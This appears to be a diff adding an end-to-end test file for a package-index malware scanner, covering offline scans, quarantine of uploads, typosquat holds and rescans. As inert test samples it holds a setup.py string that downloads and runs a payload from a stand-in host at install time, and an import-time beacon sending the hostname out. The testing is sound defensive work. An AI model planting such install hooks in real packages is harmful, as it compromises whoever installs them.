@@ -1,0 +1,255 @@
+"""Malware defence end to end, with the real binary and the real clients: `palisade scan` offline
+(text, JSON, SARIF, extra rules, exit codes), `palisade rules check`, and the server's scan of
+every upload: twine is refused on a malicious file, a suspicious one is quarantined (pip cannot
+see it, the owners are mailed, the owner reads the report, an administrator releases or confirms
+it with the CLI), a typosquatted new project is held, and `palisade rescan` applies new rules to
+stored files.
+
+Every "malicious" package here is synthetic and inert: its code is a string in this file that is
+written into an archive and never run. Nothing is installed except the clean wheels.
+"""
+
+from __future__ import annotations
+
+import json
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from distbuilder import SdistBuilder, WheelBuilder
+from support import Server, eventually
+
+# setup.py that downloads a program and runs it while the package installs.
+DROPPER_SETUP = (
+    "import os, urllib.request\n"
+    "from setuptools import setup\n"
+    "urllib.request.urlretrieve('http://203.0.113.9/payload', '/tmp/.cache-update')\n"
+    "os.system('chmod +x /tmp/.cache-update && /tmp/.cache-update')\n"
+    "setup(name='x', version='1')\n"
+)
+# An __init__ that sends the host name somewhere as it is imported: suspicious, not certain.
+BEACON_INIT = (
+    "import socket\n"
+    "import urllib.request\n"
+    "urllib.request.urlopen('https://telemetry.example.invalid/ping?h=' + socket.gethostname())\n"
+)
+MARKER = "palisade-e2e-marker-7f3a"
+MARKER_RULE = f"""
+rule e2e_marker_string
+{{
+    meta:
+        id = "e2e-marker-string"
+        severity = "high"
+        description = "the e2e suite's marker string"
+    strings:
+        $m = "{MARKER}"
+    condition:
+        $m
+}}
+"""
+
+
+@pytest.fixture(scope="module")
+def srv(palisade_bin, tmp_path_factory, sink):
+    s = Server(palisade_bin, tmp_path_factory.mktemp("srv-scanning"), "test_scanning", sink.env()).start()
+    yield s
+    s.stop()
+
+
+def scan(binary: Path, *args: str, cwd: Path) -> subprocess.CompletedProcess:
+    return subprocess.run([str(binary), "scan", *args], capture_output=True, text=True, cwd=cwd, timeout=120)
+
+
+def listed_versions(s: Server, project: str) -> list[str]:
+    r = s.simple_json(project)
+    return r.json()["versions"] if r.status_code == 200 else []
+
+
+def expect_versions(s: Server, project: str, versions: list[str]) -> None:
+    """For `eventually`, which retries only on AssertionError: the CLI's decisions reach a running
+    server's page cache within a poll interval, not at once."""
+    listed = listed_versions(s, project)
+    assert listed == versions, listed
+
+
+# ---- `palisade scan`: offline, no server, no configuration -----------------------------------
+
+
+def test_scan_cli_reports_formats_and_exit_codes(palisade_bin, tmp_path):
+    clean = WheelBuilder("tidy-lib", "1.0").build(tmp_path / "clean")
+    bad_dir = tmp_path / "bad"
+    dropper = SdistBuilder("tidy-dropper", "1.0", extra_files={"tidy_dropper-1.0/setup.py": DROPPER_SETUP.encode()}).build(bad_dir)
+    beacon = WheelBuilder("tidy-beacon", "1.0", init_source=BEACON_INIT).build(bad_dir)
+
+    r = scan(palisade_bin, str(clean), cwd=tmp_path)
+    assert r.returncode == 0, r.stdout + r.stderr
+    assert ": CLEAN" in r.stdout, r.stdout
+
+    # A folder is searched for distributions; anything not clean makes the exit code 1.
+    r = scan(palisade_bin, str(bad_dir), cwd=tmp_path)
+    assert r.returncode == 1, r.stdout + r.stderr
+    assert f"{dropper.name}: MALICIOUS" in r.stdout and "py-install-download-exec" in r.stdout, r.stdout
+    assert "setup.py:3" in r.stdout and f"{beacon.name}: SUSPICIOUS" in r.stdout, r.stdout
+
+    # JSON: one object per file, with verdict, score and located findings.
+    r = scan(palisade_bin, "--format", "json", str(clean), str(dropper), str(beacon), cwd=tmp_path)
+    assert r.returncode == 1, r.stderr
+    objs = [json.loads(line) for line in r.stdout.splitlines() if line.strip()]
+    by_file = {Path(o["path"]).name: o for o in objs}
+    assert set(by_file) == {clean.name, dropper.name, beacon.name}, by_file.keys()
+    assert by_file[clean.name]["verdict"] == "clean" and by_file[clean.name]["findings"] == []
+    d = by_file[dropper.name]
+    assert d["verdict"] == "malicious" and d["score"] >= 10, d
+    f = next(f for f in d["findings"] if f["rule"] == "py-install-download-exec")
+    assert f["path"].endswith("setup.py") and f["line"] in (3, 4) and f["severity"] == "critical", f
+    assert "urlretrieve" in f["excerpt"] or "os.system" in f["excerpt"], f
+    assert by_file[beacon.name]["verdict"] == "suspicious", by_file[beacon.name]
+
+    # SARIF 2.1.0 for code-scanning tools: rules and results with locations.
+    r = scan(palisade_bin, "--format", "sarif", str(dropper), cwd=tmp_path)
+    assert r.returncode == 1, r.stderr
+    sarif = json.loads(r.stdout)
+    assert sarif["version"] == "2.1.0"
+    run = sarif["runs"][0]
+    assert run["tool"]["driver"]["name"].lower().startswith("palisade")
+    rule_ids = {x["id"] for x in run["tool"]["driver"]["rules"]}
+    results = run["results"]
+    assert any(x["ruleId"] == "py-install-download-exec" for x in results), results
+    assert {x["ruleId"] for x in results} <= rule_ids
+    loc = next(x for x in results if x["ruleId"] == "py-install-download-exec")["locations"][0]["physicalLocation"]
+    assert "setup.py" in json.dumps(loc) and loc["region"]["startLine"] in (3, 4), loc
+
+    # Usage errors exit 2: a missing path, an unknown format, a rule folder that does not compile.
+    assert scan(palisade_bin, str(tmp_path / "nope.whl"), cwd=tmp_path).returncode == 2
+    assert scan(palisade_bin, "--format", "xml", str(clean), cwd=tmp_path).returncode == 2
+    broken = tmp_path / "broken-rules"
+    broken.mkdir()
+    (broken / "bad.yar").write_text("rule broken { condition: $undefined }\n")
+    r = scan(palisade_bin, "--rules", str(broken), str(clean), cwd=tmp_path)
+    assert r.returncode == 2 and "bad.yar" in r.stderr, r.stderr
+    r = subprocess.run([str(palisade_bin), "rules", "check", str(broken)], capture_output=True, text=True, timeout=60)
+    assert r.returncode != 0 and "bad.yar" in (r.stdout + r.stderr), r.stdout + r.stderr
+
+    # Operator rules are compiled next to the shipped pack.
+    rules = tmp_path / "rules"
+    rules.mkdir()
+    (rules / "marker.yar").write_text(MARKER_RULE)
+    r = subprocess.run([str(palisade_bin), "rules", "check", str(rules)], capture_output=True, text=True, timeout=60)
+    assert r.returncode == 0, r.stdout + r.stderr
+    marked = WheelBuilder("tidy-marked", "1.0", init_source=f'BANNER = "{MARKER}"\n').build(tmp_path / "marked")
+    assert scan(palisade_bin, str(marked), cwd=tmp_path).returncode == 0
+    r = scan(palisade_bin, "--format", "json", "--rules", str(rules), str(marked), cwd=tmp_path)
+    assert r.returncode == 1, r.stdout + r.stderr
+    assert any(f["rule"] == "e2e-marker-string" for f in json.loads(r.stdout)["findings"]), r.stdout
+
+
+# ---- the server: every upload is scanned before it is visible --------------------------------
+
+
+def test_malicious_upload_is_refused_with_the_findings(srv, clients, tmp_path):
+    srv.create_user("mal-uploader")
+    token = srv.create_token("mal-uploader")
+    dropper = SdistBuilder("fresh-dropper", "1.0", extra_files={"fresh_dropper-1.0/setup.py": DROPPER_SETUP.encode()}).build(tmp_path)
+    proc = clients.twine_upload(srv, token, dropper, check=False)
+    assert "400" in proc.output and "malware scanner" in proc.output, proc.output
+    assert "py-install-download-exec" in proc.output, proc.output
+    assert srv.simple_json("fresh-dropper").status_code == 404
+    srv.assert_no_debris()
+    rejected = srv.cli("quarantine", "rejected").stdout
+    assert dropper.name in rejected and "malicious" in rejected, rejected
+
+
+def test_suspicious_upload_is_quarantined_mailed_reviewed_and_released(srv, sink, clients, tmp_path):
+    owner = srv.create_user("beacon-owner")
+    token = srv.create_token("beacon-owner")
+    v1 = WheelBuilder("beacon-e2e", "1.0").build(tmp_path / "v1")
+    clients.twine_upload(srv, token, v1)
+    mark = sink.mark()
+    v2 = WheelBuilder("beacon-e2e", "2.0", init_source=BEACON_INIT).build(tmp_path / "v2")
+    clients.twine_upload(srv, token, v2)  # accepted: held, not refused
+
+    # Not listed and not installable: pip resolves to the released 1.0.
+    assert listed_versions(srv, "beacon-e2e") == ["1.0"]
+    assert srv.get(f"/files/{v2.name}").status_code == 404
+    target = tmp_path / "site"
+    clients.pip_install(srv, "beacon-e2e", target=target)
+    assert (target / "beacon_e2e-1.0.dist-info").is_dir()
+    proc = clients.pip_install(srv, "beacon-e2e==2.0", target=tmp_path / "site2", check=False)
+    assert proc.returncode != 0, proc.output
+
+    # The owner is told, and can read the report (but not decide).
+    mail = sink.wait_for(to=owner["email"], subject_contains="quarantined", start=mark)
+    assert v2.name in mail.body and "beacon-e2e" in mail.body, mail.body
+    session = owner["session"]
+    rep = srv.api("GET", f"/api/quarantine/{v2.name}", session)
+    assert rep.status_code == 200, rep.text
+    first = rep.json()["reports"][0]
+    assert first["verdict"] == "suspicious"
+    assert any(f["path"].endswith("__init__.py") for f in first["report"]["findings"]), first
+    assert srv.api("POST", f"/api/quarantine/{v2.name}/release", session).status_code == 403
+
+    # The administrator reviews with the CLI and releases it; the index follows.
+    listing = srv.cli("quarantine", "list").stdout
+    assert v2.name in listing and "suspicious" in listing, listing
+    shown = srv.cli("quarantine", "show", v2.name).stdout
+    assert "suspicious" in shown and "__init__.py" in shown, shown
+    srv.cli("quarantine", "release", v2.name, "--note", "telemetry, agreed with the owner")
+    eventually(lambda: expect_versions(srv, "beacon-e2e", ["1.0", "2.0"]))
+    clients.pip_install(srv, "beacon-e2e==2.0", target=tmp_path / "site3")
+    assert (tmp_path / "site3" / "beacon_e2e-2.0.dist-info").is_dir()
+    decided = srv.api("GET", f"/api/quarantine/{v2.name}", session).json()["reports"][0]
+    assert decided["decision"] == "released" and decided["note"] == "telemetry, agreed with the owner", decided
+    audit = srv.cli("audit", "--project", "beacon-e2e", "--json").stdout
+    kinds = [json.loads(line)["kind"] for line in audit.splitlines() if line.strip()]
+    assert "file_quarantined" in kinds and "quarantine_decision" in kinds, kinds
+
+
+def test_confirmed_file_is_removed_and_its_name_reserved(srv, clients, tmp_path):
+    srv.create_user("confirm-owner")
+    token = srv.create_token("confirm-owner")
+    held = WheelBuilder("confirm-e2e", "1.0", init_source=BEACON_INIT).build(tmp_path / "held")
+    clients.twine_upload(srv, token, held)
+    # The project's only file is held, so the whole project carries PEP 792's status.
+    body = srv.simple_json("confirm-e2e").json()
+    assert body["project-status"]["status"] == "quarantined" and body["files"] == [], body
+    srv.cli("quarantine", "confirm", held.name)
+    assert held.name not in srv.cli("quarantine", "list").stdout
+    # The same filename can never come back, even clean.
+    clean = WheelBuilder("confirm-e2e", "1.0").build(tmp_path / "clean")
+    proc = clients.twine_upload(srv, token, clean, check=False)
+    assert "File already exists" in proc.output, proc.output
+
+
+def test_typosquatted_new_project_is_held(srv, clients, tmp_path):
+    srv.create_user("squatter")
+    token = srv.create_token("squatter")
+    squat = WheelBuilder("reqeusts", "2.99.0").build(tmp_path)
+    clients.twine_upload(srv, token, squat)
+    body = srv.simple_json("reqeusts").json()
+    assert body["project-status"]["status"] == "quarantined", body
+    shown = srv.cli("quarantine", "show", squat.name).stdout
+    assert "meta-typosquat" in shown and "requests" in shown, shown
+
+
+def test_rescan_applies_new_rules_to_stored_files(make_server, clients, tmp_path):
+    config = tmp_path / "palisade.toml"
+    config.write_text("[scan]\nrules_dirs = []\n")
+    s = make_server({"PALISADE_CONFIG": str(config)})
+    s.create_user("rescan-owner")
+    token = s.create_token("rescan-owner")
+    marked = WheelBuilder("rescan-e2e", "1.0", init_source=f'BANNER = "{MARKER}"\n').build(tmp_path / "d")
+    clients.twine_upload(s, token, marked)
+    assert listed_versions(s, "rescan-e2e") == ["1.0"]
+
+    # A new rule arrives; the administrator rescans and the stored file is taken out of the index.
+    rules = tmp_path / "rules"
+    rules.mkdir()
+    (rules / "marker.yar").write_text(MARKER_RULE)
+    config.write_text(f"[scan]\nrules_dirs = [{json.dumps(str(rules))}]\n")
+    out = s.cli("rescan")
+    assert "1 newly quarantined" in out.stderr, out.stderr
+    eventually(lambda: expect_versions(s, "rescan-e2e", []))
+    assert s.get(f"/files/{marked.name}").status_code == 404
+    shown = s.cli("quarantine", "show", marked.name).stdout
+    assert "e2e-marker-string" in shown and "rescan" in shown, shown
